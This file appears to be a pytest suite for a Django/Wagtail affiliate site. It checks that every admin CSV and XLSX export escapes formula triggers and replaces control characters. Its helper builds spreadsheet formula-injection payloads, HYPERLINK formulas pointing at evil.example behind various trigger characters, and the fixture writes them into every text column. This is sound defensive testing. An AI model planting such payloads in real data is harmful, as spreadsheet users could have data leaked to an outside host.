"""CSV and XLSX exports: every export in the admin, found from the URL configuration,
downloaded with hostile values in its text columns, writes no cell that a
spreadsheet would run as a formula and none that XLSX cannot hold."""

import csv
import datetime
import io
import re
from decimal import Decimal, InvalidOperation
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from django.utils.translation import gettext_lazy
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page, PageLogEntry, Site, Task, Workflow

from affiliates.analytics.services import rollups_rebuild
from affiliates.commissions.postbacks import conversion_data_parse
from affiliates.commissions.services.conversions import (
    clicks_store_settling,
    conversion_ingest,
)
from affiliates.commissions.services.ledger import ledger_adjust
from affiliates.commissions.services.payouts import payout_run_create
from affiliates.models import (
    Conversion,
    ConversionSource,
    CreatorProfile,
    TrackedLink,
)
from affiliates.tracking.clickids import click_id_make
from products.models import Availability, Merchant, Offer, Product
from tests.affiliates.conftest import sale
from tests.conftest import review_create
from tests.factories import (
    CreatorProfileFactory,
    MerchantFactory,
    OfferFactory,
    ProductFactory,
    pending_click,
)
from zhongcao import spreadsheets
from zhongcao.models import TaskFailure, TaskOutcome
from zhongcao.spreadsheets import FORMULA_TRIGGERS, spreadsheet_cell

pytestmark = pytest.mark.slow

# Each text column gets a value that starts with a different formula trigger (the
# last: a formula behind a space), carries a tag naming the column, so that the
# test can tell it reached an export, and ends in control characters that XLSX
# cannot hold (a bell and an escape).
STARTS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " ="]
TAG = re.compile(r'"tag:([a-z_.]+)"')

# Exports whose URL takes arguments, and how to fill them from the data below.
URL_ARGUMENTS = {
    "affiliates_payouts:export": lambda data: {"pk": data["run"].pk},
}
# Exports of the signed-in creator's own data, downloaded as the author of the data.
AS_CREATOR = {"affiliates_own_earnings_export"}


def hostile(number: int, tag: str, row: int = 0) -> str:
    start = STARTS[number % len(STARTS)]
    return f'{start}HYPERLINK("http://evil.example/?{row}","tag:{tag}")\x07\x1b'


# -- Unit: the one function -------------------------------------------------------------


@pytest.mark.parametrize("start", STARTS)
def test_a_formula_becomes_text(start):
    cell = spreadsheet_cell(f"{start}1+1")
    assert cell == f"'{start}1+1"


def test_plain_values_stay_as_they_are():
    assert spreadsheet_cell("耳机 WH-7 - black") == "耳机 WH-7 - black"
    assert spreadsheet_cell("") == ""
    assert spreadsheet_cell(None) is None
    assert spreadsheet_cell(Decimal("-5.00")) == Decimal("-5.00")  # a number
    assert spreadsheet_cell(-3) == -3
    day = datetime.date(2026, 1, 31)
    assert spreadsheet_cell(day) is day
    assert spreadsheet_cell(gettext_lazy("Sale")) == "Sale"


def test_characters_xlsx_cannot_hold_are_replaced_visibly():
    assert spreadsheet_cell("AB\x00C\x07D\x1b") == "AB\ufffdC\ufffdD\ufffd"
    assert spreadsheet_cell("a\tb\nc\rd") == "a\tb\nc\rd"  # these XLSX holds
    assert spreadsheet_cell("\x01=1+1") == "\ufffd=1+1"


def test_no_other_module_writes_a_spreadsheet():
    """Every export goes through Wagtail's SpreadsheetExportMixin, whose cells
    zhongcao.spreadsheets makes safe: nothing else writes CSV or XLSX. (Reading a
    merchant's report, affiliates.commissions.reportfiles, loads workbooks only.)"""
    root = Path(settings.BASE_DIR)
    own = Path(spreadsheets.__file__).resolve()
    writers = re.compile(
        r"csv\.(writer|DictWriter)\(|xlsxwriter|Workbook\("
        r"|from openpyxl import (?!load_workbook\n)|import openpyxl\b|openpyxl\.Workbook"
    )
    elsewhere = [
        str(path.relative_to(root))
        for folder in ("products", "affiliates", "content", "site")
        for path in (root / folder).rglob("*.py")
        if path.resolve() != own and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert elsewhere == []


# -- Every export, with hostile values --------------------------------------------------


def export_views() -> dict[str, tuple[type, dict]]:
    """URL name → (view class, URL pattern) of every view built on Wagtail's
    spreadsheet export that has columns to export, one URL per view (a report's
    results-only URL exports the same)."""
    found: dict[tuple, tuple[str, type, URLPattern]] = {}

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                prefix = f"{namespace}{pattern.namespace}:" if pattern.namespace else ""
                yield from walk(pattern.url_patterns, prefix or namespace)
            else:
                yield namespace, pattern

    for namespace, pattern in walk(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        if not (view_class and issubclass(view_class, SpreadsheetExportMixin)):
            continue
        initkwargs = dict(getattr(pattern.callback, "view_initkwargs", {}))
        initkwargs.pop("results_only", None)
        if not (initkwargs.get("list_export") or view_class.list_export):
            continue  # a listing with nothing to export
        key = (view_class, repr(sorted(initkwargs.items())))
        found.setdefault(key, (f"{namespace}{pattern.name}", view_class, pattern))
    return {name: (view_class, pattern) for name, view_class, pattern in found.values()}


def test_the_walk_finds_the_exports():
    names = set(export_views())
    assert {
        "affiliates_articles_report",
        "affiliates_products_report",
        "affiliates_merchants_report",
        "affiliates_placements_report",
        "affiliates_quiet_report",
        "affiliates_link_health",
        "affiliates_report_unattributed",
        "affiliates_report_held",
        "affiliates_payouts:export",
        "affiliates_own_earnings_export",
        "wagtailadmin_reports:site_history",
        "wagtailadmin_reports:aging_pages",
        "wagtailadmin_reports:locked_pages",
        "wagtailadmin_reports:workflow",
        "wagtailadmin_reports:workflow_tasks",
        "wagtailredirects:index",
    } <= names


def _click(link: TrackedLink, *, at, visitor: str, bot: bool = False) -> str:
    click_id = click_id_make(link_id=link.pk, clicked_at=at)
    clicks_store_settling(
        clicks=[
            pending_click(
                link=link, click_id=click_id, clicked_at=at, visitor=visitor, bot=bot
            )
        ]
    )
    return click_id


def _sale(merchant: Merchant, *, order_id: str, click_id: str) -> Conversion:
    return conversion_ingest(
        merchant=merchant,
        data=conversion_data_parse(sale(order_id=order_id, click_id=click_id)),
        source=ConversionSource.POSTBACK,
    ).conversion


@pytest.fixture
def hostile_data(db, articles):
    """Something in every export: a published review with clicks and sales today
    (one sale attributed, one held, one unattributed), a quiet merchant's product
    clicked 45 days ago and now out of stock, a payout run, a locked page, a page
    in the editorial workflow, a redirect. Made with ordinary values, then every
    text column is overwritten with a hostile one, as a value stored before any
    check at input would be."""
    shop = MerchantFactory(name="Shop", allowed_domains="shop.example")
    quiet = MerchantFactory(name="Quiet", allowed_domains="quiet.example")
    kettle = ProductFactory(title="Kettle")
    OfferFactory(
        product=kettle, merchant=shop, url="https://shop.example/k", currency="CNY"
    )
    grinder = ProductFactory(title="Grinder")
    quiet_offer = OfferFactory(
        product=grinder, merchant=quiet, url="https://quiet.example/g", currency="CNY"
    )
    author = CreatorProfileFactory(user__username="lulu", public_name="Lulu")
    review = review_create(
        parent=articles, author=author, product=kettle, title="Kettle review"
    )
    older = review_create(
        parent=articles, author=author, product=grinder, title="Grinder review"
    )
    draft = review_create(
        parent=articles, author=author, product=kettle, title="Draft", publish=False
    )
    now = timezone.now()
    link = TrackedLink.objects.get(article=review, is_preview=False)
    _sale(shop, order_id="A-1", click_id=_click(link, at=now, visitor="reader-1"))
    _sale(shop, order_id="H-1", click_id=_click(link, at=now, visitor="", bot=True))
    _sale(shop, order_id="U-1", click_id="no-such-click")
    quiet_link = TrackedLink.objects.get(article=older, is_preview=False)
    _click(quiet_link, at=now - datetime.timedelta(days=45), visitor="reader-2")
    quiet_offer.availability = Availability.OUT_OF_STOCK
    quiet_offer.save()
    rollups_rebuild()
    ledger_adjust(
        creator=author, amount=Decimal("500.00"), currency="CNY", note="Welcome"
    )
    run = payout_run_create(run_date=now.date())
    draft.get_workflow().start(draft, author.user)
    Redirect.objects.create(
        old_path="/old",
        redirect_link="https://example.com/",
        site=Site.objects.get(is_default_site=True),
    )
    # A task's error can quote what a merchant's server answered.
    TaskFailure.objects.create(
        task_path="products.tasks.check_links",
        result_id="result-1",
        attempt=1,
        exception_class_path="builtins.ValueError",
        message="ValueError: unexpected answer",
        outcome=TaskOutcome.FAILED,
    )

    columns = [
        (Page.objects.filter(pk__in=[review.pk, older.pk, draft.pk]), "title"),
        (PageLogEntry.objects.all(), "label"),
        (CreatorProfile.objects.filter(pk=author.pk), "public_name"),
        (get_user_model().objects.filter(pk=author.user_id), "username"),
        (get_user_model().objects.filter(pk=author.user_id), "first_name"),
        (get_user_model().objects.filter(pk=author.user_id), "last_name"),
        (get_user_model().objects.filter(pk=author.user_id), "email"),
        (Merchant.objects.all(), "name"),
        (Product.objects.all(), "title"),
        (Offer.objects.all(), "url"),
        (Conversion.objects.all(), "order_id"),
        (Conversion.objects.all(), "click_id"),
        (Workflow.objects.all(), "name"),
        (Task.objects.all(), "name"),
        (Redirect.objects.all(), "old_path"),
        (Redirect.objects.all(), "redirect_link"),
        (Site.objects.all(), "site_name"),
        (TaskFailure.objects.all(), "message"),
    ]
    tags = set()
    for number, (queryset, column) in enumerate(columns):
        tag = f"{queryset.model._meta.model_name}.{column}"
        for row, pk in enumerate(queryset.values_list("pk", flat=True)):
            queryset.filter(pk=pk).update(**{column: hostile(number, tag, row)})
        tags.add(tag)
    Page.objects.filter(pk=review.pk).update(
        locked=True, locked_by_id=author.user_id, locked_at=now
    )
    return {"run": run, "tags": tags, "author": author}


def _csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def _xlsx_cells(content: bytes) -> list[list]:
    workbook = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _unsafe(cell) -> str | None:
    """What is wrong with a cell, if anything."""
    if not isinstance(cell, str):
        return None
    if ILLEGAL_CHARACTERS_RE.search(cell):
        return "a character XLSX cannot hold"
    if cell.startswith(FORMULA_TRIGGERS) or cell.lstrip().startswith(FORMULA_TRIGGERS):
        return None if _is_number(cell) else "a formula"
    return None


def test_every_export_is_formula_safe(client, hostile_data, django_user_model):
    client.force_login(
        django_user_model.objects.create_superuser(username="root", password="x")
    )
    creator_client = Client()
    creator_client.force_login(hostile_data["author"].user)
    problems, empty, seen = [], [], set()
    for name, (_view_class, pattern) in sorted(export_views().items()):
        if pattern.pattern.converters:
            if name not in URL_ARGUMENTS:
                problems.append(f"{name}: give its URL arguments in URL_ARGUMENTS")
                continue
            path = reverse(name, kwargs=URL_ARGUMENTS[name](hostile_data))
        else:
            path = reverse(name)
        for export_format, read in (("csv", _csv_cells), ("xlsx", _xlsx_cells)):
            response = (creator_client if name in AS_CREATOR else client).get(
                path, {"export": export_format}
            )
            if response.status_code != 200:
                problems.append(f"{name} {export_format}: {response.status_code}")
                continue
            content = (
                b"".join(response.streaming_content)
                if response.streaming
                else response.content
            )
            if not (
                "spreadsheetml" in response["Content-Type"]
                if export_format == "xlsx"
                else response["Content-Type"].startswith("text/csv")
            ):
                continue  # an export in one format only (the payout run's CSV)
            rows = read(content.removeprefix("\ufeff".encode()))
            if len(rows) < 2:
                empty.append(f"{name} {export_format}")
            for row in rows:
                for cell in row:
                    if isinstance(cell, str):
                        seen.update(TAG.findall(cell))
                    what = _unsafe(cell)
                    if what:
                        problems.append(f"{name} {export_format}: {what}: {cell!r}")
    assert problems == []
    assert empty == [], "every export has rows to check"
    assert hostile_data["tags"] <= seen, "every hostile column reached an export"
